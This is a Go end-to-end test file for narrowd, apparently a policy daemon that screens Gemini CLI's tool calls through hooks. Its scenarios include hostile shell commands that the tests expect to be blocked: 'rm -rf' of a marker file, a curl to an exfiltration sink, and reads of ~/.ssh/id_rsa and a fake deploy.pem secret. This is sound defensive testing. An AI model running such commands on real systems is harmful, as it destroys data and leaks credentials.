@@ -1,0 +1,354 @@
+package e2e
+
+import (
+	"encoding/json"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+// geminiClient is Google's Gemini CLI, the release real-clients.md §2 was
+// verified against.
+var geminiClient = npmClient{Pkg: "@google/gemini-cli", Version: "0.61.0", Bin: "gemini"}
+
+// geminiWorld is a world with the Gemini dialect, the user's Gemini
+// settings (API-key auth, no telemetry or update checks) and narrowd's
+// hooks merged into them by `narrowd install gemini`.
+func geminiWorld(t *testing.T, opt WorldOptions) (*World, string) {
+	t.Helper()
+	bin := needClient(t, geminiClient)
+	w := NewWorld(t, opt)
+	w.Model.HandleGemini()
+	w.WriteFile(filepath.Join(w.Home, ".gemini", "settings.json"), `{
+  "security": {"auth": {"selectedType": "gemini-api-key"}},
+  "privacy": {"usageStatisticsEnabled": false},
+  "general": {"enableAutoUpdate": false, "enableAutoUpdateNotification": false},
+  "telemetry": {"enabled": false}
+}
+`)
+	w.Install("gemini")
+	return w, bin
+}
+
+// runGemini runs Gemini CLI headless on one scenario in the project. Its
+// yolo mode offers the shell and write tools (the default headless mode
+// does not), and every call still goes through the BeforeTool hook first.
+// A run that fails or times out fails the test: Gemini waits forever for
+// a person when a hook answers ask, so a hang is a failure, not a skip.
+func runGemini(t *testing.T, w *World, bin string, sc Scenario) Result {
+	t.Helper()
+	w.Model.Add(sc)
+	res := w.Exec(Run{
+		Bin: bin,
+		Args: []string{"-p", "SCENARIO=" + sc.Name + " CWD=" + w.Project + " go",
+			"--output-format", "json", "--approval-mode", "yolo"},
+		Env: []string{
+			"GOOGLE_GEMINI_BASE_URL=" + w.Model.URL(),
+			"GEMINI_API_KEY=dummy",
+			"GEMINI_CLI_TRUST_WORKSPACE=true",
+		},
+		Timeout: 60 * time.Second,
+	})
+	t.Logf("gemini %s: %v in %v", sc.Name, res.Err, res.Duration.Round(time.Millisecond))
+	if res.Err != nil {
+		t.Fatalf("gemini run %s: %v\nstdout: %s\nstderr: %s", sc.Name, res.Err, res.Stdout, res.Stderr)
+	}
+	return res
+}
+
+// gcall is a scripted Gemini function call.
+func gcall(name string, args map[string]string) ToolCall {
+	b, _ := json.Marshal(args)
+	return ToolCall{Name: name, Input: string(b)}
+}
+
+// gshell is a scripted run_shell_command call.
+func gshell(cmd string) ToolCall {
+	return gcall("run_shell_command", map[string]string{"command": cmd, "description": "scripted"})
+}
+
+// geminiBlocked is how Gemini tells the model that a BeforeTool hook
+// blocked a call; narrowd's reason follows.
+const geminiBlocked = "Tool execution blocked: narrowd"
+
+// geminiResults returns the result of each turn's call in the scenario's
+// last request, failing the test when one is missing.
+func geminiResults(t *testing.T, w *World, sc Scenario) []ToolResult {
+	t.Helper()
+	last := w.Model.Last(sc.Name)
+	out := make([]ToolResult, len(sc.Turns))
+	for i := range sc.Turns {
+		if len(sc.Turns[i].Calls) == 0 {
+			continue
+		}
+		res, ok := last.Result(i, 0)
+		if !ok {
+			t.Fatalf("no result for turn %d in Gemini's last request: %+v", i, last.Decoded.Results)
+		}
+		out[i] = res
+	}
+	return out
+}
+
+func TestGeminiHarmlessRead(t *testing.T) {
+	t.Parallel()
+	w, bin := geminiWorld(t, WorldOptions{})
+	w.Start()
+	sc := Scenario{Name: "gemini-read", Turns: []Turn{
+		{Calls: []ToolCall{gshell("ls")}},
+		{Calls: []ToolCall{gcall("read_file", map[string]string{"file_path": "{{CWD}}/README.md"})}},
+		{Calls: []ToolCall{gshell("grep -n hello README.md main.go | head -5")}},
+	}}
+	runGemini(t, w, bin, sc)
+	res := geminiResults(t, w, sc)
+	for i, want := range []string{"main.go", "second line", "README.md:1:hello world"} {
+		if res[i].IsError || !strings.Contains(res[i].Text, want) {
+			t.Errorf("turn %d result = %+v, want output with %q", i, res[i], want)
+		}
+	}
+	wantPreTool(t, w, "allow", "allow", "allow")
+}
+
+func TestGeminiWorkspaceWrite(t *testing.T) {
+	t.Parallel()
+	for _, tt := range []struct {
+		profile string
+		written bool
+	}{
+		{"standard", true}, // write-workspace-file allows one proven workspace file
+		{"strict", false},  // strict asks, and a headless Gemini cannot: a deny
+	} {
+		t.Run(tt.profile, func(t *testing.T) {
+			t.Parallel()
+			w, bin := geminiWorld(t, WorldOptions{Profile: tt.profile})
+			w.Start()
+			sc := Scenario{Name: "gemini-write", Turns: []Turn{
+				{Calls: []ToolCall{gcall("write_file", map[string]string{"file_path": "{{CWD}}/notes.txt", "content": "by gemini\n"})}},
+				{Calls: []ToolCall{gcall("replace", map[string]string{"file_path": "{{CWD}}/README.md",
+					"old_string": "hello world", "new_string": "hello edited", "instruction": "edit the greeting"})}},
+			}}
+			runGemini(t, w, bin, sc)
+			res := geminiResults(t, w, sc)
+			notes, readme := filepath.Join(w.Project, "notes.txt"), filepath.Join(w.Project, "README.md")
+			if tt.written {
+				mustExist(t, notes, "by gemini\n")
+				mustExist(t, readme, "hello edited\nsecond line\n")
+				wantPreTool(t, w, "allow", "allow")
+				for i, r := range res {
+					if r.IsError {
+						t.Errorf("turn %d result = %+v, want the write to have run", i, r)
+					}
+				}
+				return
+			}
+			mustNotExist(t, notes)
+			mustExist(t, readme, "hello world\nsecond line\n")
+			wantPreTool(t, w, "ask", "ask")
+			for i, r := range res {
+				if !r.IsError || !strings.HasPrefix(r.Text, geminiBlocked+": needs approval") {
+					t.Errorf("turn %d result = %+v, want narrowd's needs-approval reason", i, r)
+				}
+			}
+		})
+	}
+}
+
+func TestGeminiDangerousNeverRuns(t *testing.T) {
+	t.Parallel()
+	w, bin := geminiWorld(t, WorldOptions{})
+	sink := NewSink(t, "exfiltrated\n")
+	w.Model.Vars["SINK"] = sink.URL
+	w.WriteFile(filepath.Join(w.Project, "deploy.pem"), "FAKE-E2E-TOKEN-DO-NOT-LEAK\n")
+	w.Start()
+	sc := Scenario{Name: "gemini-danger", Turns: []Turn{
+		{Calls: []ToolCall{gshell("rm -rf {{MARKER}}")}},
+		{Calls: []ToolCall{gshell("curl -s {{SINK}}/exfil")}},
+		{Calls: []ToolCall{gshell("cat {{HOME}}/.ssh/id_rsa")}},
+		// web_fetch hides its URL in the prompt text.
+		{Calls: []ToolCall{gcall("web_fetch", map[string]string{"prompt": "summarize {{SINK}}/page"})}},
+		// read_file of a secret inside the workspace: narrowd's sensitive
+		// names (outside the workspace Gemini refuses the path itself,
+		// before any hook runs).
+		{Calls: []ToolCall{gcall("read_file", map[string]string{"file_path": "{{CWD}}/deploy.pem"})}},
+		{Calls: []ToolCall{gcall("read_file", map[string]string{"file_path": "{{HOME}}/.ssh/id_rsa"})}},
+	}}
+	runGemini(t, w, bin, sc)
+	mustExist(t, w.MarkerFile, "narrowd e2e marker: must survive\n")
+	if hits := sink.Hits(); len(hits) != 0 {
+		t.Errorf("the loopback sink got requests %v; nothing may have reached it", hits)
+	}
+	res := geminiResults(t, w, sc)
+	for i, r := range res[:5] {
+		if !r.IsError || !strings.HasPrefix(r.Text, geminiBlocked) {
+			t.Errorf("turn %d result = %+v, want narrowd's reason", i, r)
+		}
+	}
+	if r := res[5]; !r.IsError {
+		t.Errorf("read_file of the ssh key: result %+v, want a refusal", r)
+	}
+	pre := preTool(w)
+	if len(pre) < 5 {
+		t.Errorf("pre-tool audit records: %d, want one for each of the 5 calls narrowd saw", len(pre))
+	}
+	for i, r := range pre {
+		if r.Outcome == "allow" {
+			t.Errorf("pre-tool record %d (%s %q) was allowed", i, r.ToolName, r.Summary)
+		}
+	}
+	noLeak(t, w.Model, "FAKE-E2E-KEY-DO-NOT-LEAK")
+	noLeak(t, w.Model, "FAKE-E2E-TOKEN-DO-NOT-LEAK")
+}
+
+func TestGeminiAskNeverRuns(t *testing.T) {
+	t.Parallel()
+	// Gemini waits forever for a person when a hook answers ask, even in
+	// a run with no person (real-clients.md §2), so an ask must come back
+	// as a deny, also when narrowd is told a person is there.
+	for _, interactive := range []bool{false, true} {
+		name := "headless"
+		if interactive {
+			name = "interactive"
+		}
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			w, bin := geminiWorld(t, WorldOptions{})
+			if interactive {
+				w.AppendConfig("interactive = true\n")
+			}
+			w.Start()
+			sc := Scenario{Name: "gemini-ask", Turns: []Turn{
+				{Calls: []ToolCall{gshell("rm README.md")}},
+			}}
+			runGemini(t, w, bin, sc)
+			mustExist(t, filepath.Join(w.Project, "README.md"), "")
+			wantPreTool(t, w, "ask")
+			r := geminiResults(t, w, sc)[0]
+			if !r.IsError || !strings.Contains(r.Text, "needs approval") || !strings.Contains(r.Text, "narrowd profile") {
+				t.Errorf("result = %+v, want narrowd's reason with how to approve", r)
+			}
+		})
+	}
+}
+
+func TestGeminiDaemonStopped(t *testing.T) {
+	t.Parallel()
+	t.Run("in-process", func(t *testing.T) {
+		t.Parallel()
+		w, bin := geminiWorld(t, WorldOptions{})
+		w.Start()
+		w.Stop()
+		sc := Scenario{Name: "gemini-offline", Turns: []Turn{
+			{Calls: []ToolCall{gcall("read_file", map[string]string{"file_path": "{{CWD}}/README.md"})}},
+			{Calls: []ToolCall{gshell("rm -rf {{MARKER}}")}},
+			{Calls: []ToolCall{gshell("rm README.md")}},
+		}}
+		runGemini(t, w, bin, sc)
+		res := geminiResults(t, w, sc)
+		if res[0].IsError || !strings.Contains(res[0].Text, "hello world") {
+			t.Errorf("read result = %+v, want README.md's text (allowed in-process)", res[0])
+		}
+		for turn := 1; turn <= 2; turn++ {
+			if !res[turn].IsError || !strings.HasPrefix(res[turn].Text, geminiBlocked) {
+				t.Errorf("turn %d result = %+v, want narrowd's refusal", turn, res[turn])
+			}
+		}
+		mustExist(t, w.MarkerFile, "")
+		mustExist(t, filepath.Join(w.Project, "README.md"), "")
+	})
+	t.Run("blocks", func(t *testing.T) {
+		t.Parallel()
+		w, bin := geminiWorld(t, WorldOptions{})
+		w.AppendConfig("this is not toml\n")
+		sc := Scenario{Name: "gemini-broken", Turns: []Turn{
+			{Calls: []ToolCall{gcall("read_file", map[string]string{"file_path": "{{CWD}}/README.md"})}},
+			{Calls: []ToolCall{gshell("rm -rf {{MARKER}}")}},
+		}}
+		runGemini(t, w, bin, sc)
+		for turn, r := range geminiResults(t, w, sc) {
+			// Gemini reports a hook's exit-2 block with the hook's stderr.
+			if !r.IsError || !strings.Contains(r.Text, "narrowd: could not check this call") || strings.Contains(r.Text, "hello world") {
+				t.Errorf("turn %d result = %+v, want narrowd's could-not-check block", turn, r)
+			}
+		}
+		mustExist(t, w.MarkerFile, "")
+	})
+}
+
+func TestGeminiSessionTaint(t *testing.T) {
+	t.Parallel()
+	for _, tt := range []struct {
+		name    string
+		tainted bool
+	}{{"clean", false}, {"tainted", true}} {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			w, bin := geminiWorld(t, WorldOptions{ProfileTOML: taintProfile})
+			sink := NewSink(t, "pong\n")
+			w.Model.Vars["SINK"] = sink.URL
+			w.Start()
+			// A write returns no third-party text; it makes the session
+			// known to narrowd (its AfterTool is recorded) and clean.
+			turns := []Turn{{Calls: []ToolCall{gcall("write_file", map[string]string{"file_path": "{{CWD}}/todo.txt", "content": "write tests\n"})}}}
+			if tt.tainted {
+				turns = append(turns, Turn{Calls: []ToolCall{gcall("read_file", map[string]string{"file_path": "{{CWD}}/README.md"})}})
+			}
+			turns = append(turns, Turn{Calls: []ToolCall{gshell("curl -s {{SINK}}/ping")}})
+			sc := Scenario{Name: "gemini-taint", Turns: turns}
+			runGemini(t, w, bin, sc)
+			res := geminiResults(t, w, sc)
+			curl := res[len(res)-1]
+			pre := preTool(w)
+			if len(pre) != len(turns) {
+				t.Fatalf("pre-tool audit records: %d, want %d", len(pre), len(turns))
+			}
+			last := pre[len(pre)-1]
+			if !tt.tainted {
+				if len(sink.Hits()) != 1 || curl.IsError || !strings.Contains(curl.Text, "pong") {
+					t.Errorf("clean session: sink hits %v, result %+v; want the curl to have run once", sink.Hits(), curl)
+				}
+				if last.Outcome != "allow" {
+					t.Errorf("clean session: curl audit = %+v, want allow", last)
+				}
+				return
+			}
+			if hits := sink.Hits(); len(hits) != 0 {
+				t.Errorf("tainted session: the sink got %v; curl must not have run", hits)
+			}
+			if last.Outcome != "deny" || last.PolicyRule != "no-send-after-read" || !last.SessionKnown {
+				t.Errorf("audit = %+v, want a deny by no-send-after-read in a known session", last)
+			}
+			if !curl.IsError || !strings.HasPrefix(curl.Text, geminiBlocked+": denied") || !strings.Contains(curl.Text, "no-send-after-read") {
+				t.Errorf("result = %+v, want narrowd's no-send-after-read deny", curl)
+			}
+		})
+	}
+}
+
+// preTool returns the daemon's pre-tool audit records in order. Gemini's
+// payloads carry no tool-call id, and its calls run one at a time, so
+// the n-th record is the n-th scripted call.
+func preTool(w *World) []AuditRecord {
+	var out []AuditRecord
+	for _, r := range w.Audit() {
+		if r.Phase == "pre_tool" {
+			out = append(out, r)
+		}
+	}
+	return out
+}
+
+// wantPreTool checks the outcomes of the pre-tool audit records, in order.
+func wantPreTool(t *testing.T, w *World, outcomes ...string) {
+	t.Helper()
+	recs := preTool(w)
+	if len(recs) != len(outcomes) {
+		t.Errorf("pre-tool audit records: %d, want %d: %+v", len(recs), len(outcomes), recs)
+		return
+	}
+	for i, r := range recs {
+		if r.Outcome != outcomes[i] {
+			t.Errorf("pre-tool record %d (%s %q): outcome %s by rule %s, want %s", i, r.ToolName, r.Summary, r.Outcome, r.PolicyRule, outcomes[i])
+		}
+	}
+}
